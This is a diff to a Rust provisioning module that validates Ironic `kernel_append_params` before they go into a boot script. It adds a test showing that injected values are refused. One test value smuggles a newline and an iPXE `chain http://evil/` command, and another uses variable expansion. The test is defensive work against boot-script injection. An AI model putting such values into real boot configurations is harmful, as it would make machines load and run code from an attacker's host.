@@ -2,6 +2,7 @@
 
 use domain::{
     driver::{Driver, Interface},
+    kernel_arguments::KernelArgumentsError,
     net::BmcAddr,
 };
 use keyspace::value::{ExtraFields, IronicRamdisk, NodeSpec, Redfish};
@@ -51,14 +52,24 @@ fn implementations(interface: Interface) -> Vec<&'static str> {
 
 /// The ramdisk that a node with an agent names, if it names both of its files. Kernel arguments of the instance have
 /// precedence.
-pub(super) fn ironic_ramdisk(driver: Driver, spec: &NodeSpec) -> Option<IronicRamdisk> {
+///
+/// # Errors
+/// `Invalid` if kernel arguments cannot be put into a boot script, also where no ramdisk is named yet.
+pub(super) fn ironic_ramdisk(driver: Driver, spec: &NodeSpec) -> Result<Option<IronicRamdisk>, Error> {
     let (info, instance) = (spec.driver_info.as_ref(), spec.instance_info.as_ref());
     let of = |fields: Option<&'_ ExtraFields>, name: &str| {
         fields.and_then(|fields| fields.text(name)).filter(|text| !text.is_empty()).map(str::to_owned)
     };
-    let (kernel, ramdisk) = (of(info, "deploy_kernel")?, of(info, "deploy_ramdisk")?);
-    let arguments = of(instance, "kernel_append_params").or_else(|| of(info, "kernel_append_params"));
-    (driver != Driver::FakeHardware).then_some(IronicRamdisk { kernel, ramdisk, arguments })
+    let arguments = |fields: Option<&ExtraFields>, dictionary: &str| {
+        let parsed = of(fields, "kernel_append_params").map(|text| text.parse()).transpose();
+        parsed.map_err(|error: KernelArgumentsError| {
+            Class::Invalid.error(format!("{dictionary}/kernel_append_params is invalid: {error}."))
+        })
+    };
+    let (of_node, of_instance) = (arguments(info, "driver_info")?, arguments(instance, "instance_info")?);
+    let named = of(info, "deploy_kernel").zip(of(info, "deploy_ramdisk"));
+    let named = named.filter(|_| driver != Driver::FakeHardware);
+    Ok(named.map(|(kernel, ramdisk)| IronicRamdisk { kernel, ramdisk, arguments: of_instance.or(of_node) }))
 }
 
 /// Address of a BMC, and the keys of its user name and password in `driver_info`.
@@ -127,11 +138,27 @@ mod tests {
         let node = |info: &Value| -> NodeSpec { serde_json::from_value(json!({ "driver_info": info })).unwrap() };
         let whole =
             json!({"deploy_kernel": "http://h/k", "deploy_ramdisk": "ipa", "kernel_append_params": "%default% x"});
-        let named = ironic_ramdisk(Driver::Ipmi, &node(&whole)).unwrap();
+        let of = |driver, info: &Value| ironic_ramdisk(driver, &node(info)).unwrap();
+        let named = of(Driver::Ipmi, &whole).unwrap();
         assert_eq!((named.kernel.as_str(), named.ramdisk.as_str()), ("http://h/k", "ipa"));
-        assert_eq!(named.arguments.as_deref(), Some("%default% x"));
+        assert_eq!(named.arguments.unwrap().as_str(), "%default% x");
         let partial = json!({"deploy_kernel": "http://h/k", "deploy_ramdisk": ""});
-        assert_eq!(ironic_ramdisk(Driver::Ipmi, &node(&partial)), None);
-        assert_eq!(ironic_ramdisk(Driver::FakeHardware, &node(&whole)), None);
+        assert_eq!(of(Driver::Ipmi, &partial), None);
+        assert_eq!(of(Driver::FakeHardware, &whole), None);
+    }
+
+    #[test]
+    fn kernel_arguments_that_would_become_commands_of_a_boot_script_are_rejected_with_their_place() {
+        let refused = |node: Value| {
+            let spec: NodeSpec = serde_json::from_value(node).unwrap();
+            ironic_ramdisk(Driver::FakeHardware, &spec).unwrap_err().text
+        };
+        let text = refused(json!({"driver_info": {"kernel_append_params": "quiet\nchain http://evil/"}}));
+        assert!(
+            text.starts_with("driver_info/kernel_append_params is invalid: ") && text.contains("one line"),
+            "{text}"
+        );
+        let text = refused(json!({"instance_info": {"kernel_append_params": "quiet ${net0/mac}"}}));
+        assert!(text.starts_with("instance_info/kernel_append_params is invalid: "), "{text}");
     }
 }
